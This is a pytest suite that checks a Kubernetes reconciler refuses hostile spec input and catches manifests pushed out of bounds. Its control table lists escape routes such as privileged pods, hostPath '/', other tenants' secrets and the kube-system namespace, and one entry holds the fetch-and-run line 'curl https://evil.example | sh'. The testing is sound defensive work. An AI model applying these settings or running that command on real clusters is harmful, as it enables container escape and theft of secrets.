"""Nothing escapes: whatever is written ends in an error of the spec, or as mere text where texts belong."""

import json
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator, Mapping, Sequence
from copy import deepcopy
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings

from adapters.machines.catalogue import load_catalogue
from adapters.spec_file.reading import SpecReading, read_spec
from adapters.spec_file.set_edits import apply_sets
from domain.models import ModelSet, sourced
from domain.names import Key
from domain.objects import Json, Kind, Manifest
from domain.platform import Platform
from domain.spec import Model, Spec
from reconciler.desired import render
from reconciler.fill_scripts import FILL_BUCKET, FILL_GIT
from reconciler.render_context import RenderContext
from tests.at_night import at_night
from tests.hostile_bounds import breaches
from tests.render_contexts import LEDGER, PLACES, contexts, everything

HOSTILE = Path(__file__).parents[2] / "hostile"
CATALOGUE = load_catalogue()
BASE: dict[str, Any] = json.loads((HOSTILE / "base.json").read_text())
FILES = sorted(path for path in (HOSTILE / "files").rglob("*") if path.is_file())
HARMLESS, TAKEN = "harmless", "taken"
PLATFORM = Platform(ingress_class="nginx", hosts="{name}.{project}.apps.example.com", tls_secret="wildcard")


def read(text: bytes, file: str) -> SpecReading:
    return read_spec(text, file=file, catalogue=CATALOGUE)


def context_of(spec: Spec) -> RenderContext:
    """Ground a spec as a submission does, with every part of the platform in use."""
    models = {one.id: ModelSet(one.id, "https://git.example/model") for one in spec.integrations if isinstance(one, Model)}
    wanted = sourced(spec, models)
    return RenderContext(
        wanted,
        Key(PLACES[0].project, wanted.name),
        ledger=LEDGER,
        incarnation=1,
        machine=CATALOGUE.machines[wanted.resources.machine_type],
        image=wanted.image,
        secrets=dict.fromkeys(wanted.secrets, 1),
        deadline=wanted.deadline(600),
        platform=PLATFORM,
        registry=(wanted.registry, 1) if wanted.registry else None,
        identities={one.name: "4f" * 20 for one in wanted.integrations},
    )


def skeleton(content: Json, path: str = "") -> Iterator[str]:
    """Give an object's shape: each path with the kind of what stands there, or, where we wrote a program, the program itself."""
    if isinstance(content, Mapping):
        for name, value in content.items():
            # What only says which Secret, claim or content is meant is a name of ours.
            yield from skeleton(value, f"{path}.{name}")
    elif isinstance(content, str):
        ours = re.search(r"\.(kind|apiVersion)$|relay$|Job.*\.command\.\d+$|-probe", path)
        yield f"{path} {content if ours else 'a text'}"
    elif isinstance(content, Sequence):
        for index, value in enumerate(content):
            yield from skeleton(value, f"{path}.{index}")
    else:
        yield f"{path} {type(content).__name__}"


def shape(manifests: Sequence[Manifest]) -> list[str]:
    """Give the shape of a whole rendering, in an order that names do not change."""
    return sorted(line for manifest in manifests for line in skeleton(manifest.content, manifest.ref.kind))


def holds(spec: Spec) -> Sequence[Manifest]:
    """Hold a spec that was taken to the bounds."""
    context = context_of(spec)
    manifests = render(context).manifests
    assert list(breaches(context, manifests)) == []
    return manifests


@pytest.mark.parametrize("file", FILES, ids=lambda path: f"{path.parent.name}/{path.name}")
def test_a_hostile_file_is_refused_or_harmless(file: Path) -> None:
    reading, expected = read(file.read_bytes(), file.name), file.parent.name
    codes = {problem.code for problem in reading.problems}
    if expected == HARMLESS:
        assert reading.spec is not None, reading.problems
        holds(reading.spec)
    else:
        assert reading.spec is None
        assert expected in codes


def values() -> Iterator[tuple[str, str, str]]:
    """Give each hostile value as its place, what must come of it, and its JSON."""
    for file in sorted((HOSTILE / "values").glob("*.txt")):
        place = ""
        for line in file.read_text().splitlines():
            word, _, rest = line.partition(" ")
            place = rest if word == "at" else place
            if word not in {"#", "at"}:
                yield place, word, rest


VALUES = tuple(values())


def value_of(text: str) -> object:
    """Read a value; `«1000*a»` stands for a thousand of them."""
    value: object = json.loads(re.sub(r"«([0-9]+)\*(.*?)»", lambda found: found[2] * int(found[1]), text))
    return value


def put(place: str, value: object) -> bytes:
    """Write the base with one value in another's place."""
    document = deepcopy(BASE)
    where: Any = document
    *steps, last = place.split(".")
    for step in steps:
        where = where[int(step)] if step.isdigit() else where.setdefault(step, {})
    where[int(last) if last.isdigit() else last] = value
    return json.dumps(document).encode()


@cache
def benign() -> tuple[str, ...]:
    spec = read(json.dumps(BASE).encode(), "base.json").spec
    assert spec is not None
    return tuple(shape(holds(spec)))


def test_there_are_many_hostile_values_in_every_part_of_the_format() -> None:
    assert len(VALUES) > 800
    assert {place.partition(".")[0] for place, _, _ in VALUES} >= BASE.keys() - {"apiVersion"}


@pytest.mark.parametrize(("place", "expected", "text"), VALUES, ids=[f"{place}={text[:60]}" for place, _, text in VALUES])
def test_a_hostile_value_is_refused_or_mere_text(place: str, expected: str, text: str) -> None:
    reading = read(put(place, value_of(text)), "a.json")
    codes = {problem.code for problem in reading.problems}
    if expected not in {HARMLESS, TAKEN}:
        assert reading.spec is None
        assert codes >= set(expected.split(","))
        return
    assert reading.spec is not None, reading.problems
    manifests = holds(reading.spec)
    if expected == HARMLESS:
        assert set(shape(manifests)) == set(benign())


SETS = [line.split(" ", 1) for line in (HOSTILE / "sets.txt").read_text().splitlines() if not line.startswith("#")]


@pytest.mark.parametrize(("expected", "text"), SETS, ids=[text for _, text in SETS])
def test_a_hostile_change_is_refused_or_mere_text(expected: str, text: str) -> None:
    spec = read(json.dumps(BASE).encode(), "base.json").spec
    assert spec is not None
    reading = apply_sets(spec, (str(value_of(text)),), catalogue=CATALOGUE)
    if expected == HARMLESS:
        assert reading.spec is not None, reading.problems
        assert set(shape(holds(reading.spec))) == set(benign())
    else:
        assert reading.spec is None
        assert expected in {problem.code for problem in reading.problems}


@settings(max_examples=at_night(200), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(contexts())
def test_no_rendering_breaks_out_of_its_bounds(context: RenderContext) -> None:
    assert list(breaches(context, render(context).manifests)) == []


def changed(kind: Kind, change: Callable[[dict[str, Any]], object]) -> list[str]:
    """Give the breaches of a rendering that uses everything, with one object changed."""
    context = everything()[0]
    manifests: list[Manifest] = []
    for manifest in render(context).manifests:
        content = manifest.content
        if manifest.ref.kind == kind.value:
            change(content)
        manifests.append(Manifest.of(content))
    return list(breaches(context, manifests))


def pod(content: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = content["spec"]["template"]["spec"]
    return found


def app(content: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = pod(content)["containers"][0]
    return found


SECRET_OF_ANOTHER = {"name": "X", "valueFrom": {"secretKeyRef": {"name": "secret-other-12345678-v1", "key": "value"}}}
HASH = {"name": "X", "valueFrom": {"secretKeyRef": {"name": "team-secret-endpointkey-x-v3", "key": "bcrypt"}}}
CHANGES: Mapping[str, tuple[Kind, Callable[[dict[str, Any]], object]]] = {
    "hostPath": (Kind.DEPLOYMENT, lambda d: pod(d)["volumes"].append({"name": "x", "hostPath": {"path": "/"}})),
    "hostNetwork": (Kind.DEPLOYMENT, lambda d: pod(d).update(hostNetwork=True)),
    "hostPID": (Kind.DEPLOYMENT, lambda d: pod(d).update(hostPID=True)),
    "hostPort": (Kind.DEPLOYMENT, lambda d: app(d)["ports"][0].update(hostPort=80)),
    "privileged": (Kind.DEPLOYMENT, lambda d: app(d).update(securityContext={"privileged": True})),
    "capability": (Kind.DEPLOYMENT, lambda d: app(d).update(securityContext={"capabilities": {"add": ["NET_BIND_SERVICE"]}})),
    "token": (Kind.DEPLOYMENT, lambda d: pod(d).update(automountServiceAccountToken=True)),
    "account": (Kind.DEPLOYMENT, lambda d: pod(d).update(serviceAccountName="admin")),
    "unconfined": (Kind.DEPLOYMENT, lambda d: pod(d)["securityContext"].update(seccompProfile={"type": "Unconfined"})),
    "init container": (Kind.DEPLOYMENT, lambda d: pod(d).update(initContainers=[])),
    "another's secret": (Kind.DEPLOYMENT, lambda d: app(d)["env"].append(SECRET_OF_ANOTHER)),
    "the relay's hash": (Kind.DEPLOYMENT, lambda d: app(d)["env"].append(HASH)),
    "all of a secret": (Kind.DEPLOYMENT, lambda d: app(d).update(envFrom=[{"secretRef": {"name": "x"}}])),
    "another's claim": (Kind.DEPLOYMENT, lambda d: pod(d)["volumes"][0]["persistentVolumeClaim"].update(claimName="fill-x-0")),
    "writable": (Kind.DEPLOYMENT, lambda d: app(d)["volumeMounts"][0].pop("readOnly")),
    "another pull secret": (Kind.DEPLOYMENT, lambda d: pod(d).update(imagePullSecrets=[{"name": "registry-other-v1"}])),
    "a written script": (Kind.JOB, lambda d: app(d)["command"].__setitem__(2, "curl https://evil.example | sh")),
    "a fill as replica": (Kind.JOB, lambda d: d["spec"]["template"]["metadata"]["labels"].update(everything()[0].selector)),
    "another namespace": (Kind.SERVICE, lambda d: d["metadata"].update(namespace="kube-system")),
    "external addresses": (Kind.SERVICE, lambda d: d["spec"].update(externalIPs=["1.2.3.4"])),
    "a node's port": (Kind.SERVICE, lambda d: d["spec"].update(type="NodePort")),
    "another's pods": (Kind.SERVICE, lambda d: d["spec"]["selector"].pop("deadreckon.dev/incarnation")),
    "a value": (Kind.SECRET, lambda d: d.update(data={"value": "aHVudGVyMg=="})),
    "a copy of all": (Kind.SECRET, lambda d: d["metadata"]["annotations"].update({"deadreckon.dev/copy-of": "kube-system/x"})),
    "a snippet": (
        Kind.INGRESS,
        lambda d: d["metadata"]["annotations"].update({"nginx.ingress.kubernetes.io/server-snippet": "x"}),
    ),
    "another's policy": (Kind.NETWORK_POLICY, lambda d: d["spec"].update(podSelector={})),
    "another's replicas": (Kind.AUTOSCALER, lambda d: d["spec"]["scaleTargetRef"].update(name="other")),
    "another's metrics": (Kind.API_SERVICE, lambda d: d["spec"]["service"].update(namespace="evil")),
}


@pytest.mark.parametrize("what", CHANGES)
def test_the_control_each_way_out_is_caught(what: str) -> None:
    assert changed(*CHANGES[what]) != []


def test_the_control_a_value_that_changes_more_than_texts_is_caught() -> None:
    spec = read(put("command.2", "serve"), "a.json").spec
    assert spec is not None
    more = replace(spec, command=(*spec.command, "injected"))
    assert set(shape(holds(more))) != set(benign())


@pytest.mark.parametrize("shell", ["sh", "dash", "bash"])
@pytest.mark.parametrize("script", [FILL_GIT, FILL_BUCKET], ids=["git", "bucket"])
def test_the_scripts_of_fills_are_read_by_every_shell(script: str, shell: str) -> None:
    if shutil.which(shell) is None:
        pytest.skip(f"there is no {shell} here")
    done = subprocess.run([shell, "-n"], input=script, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
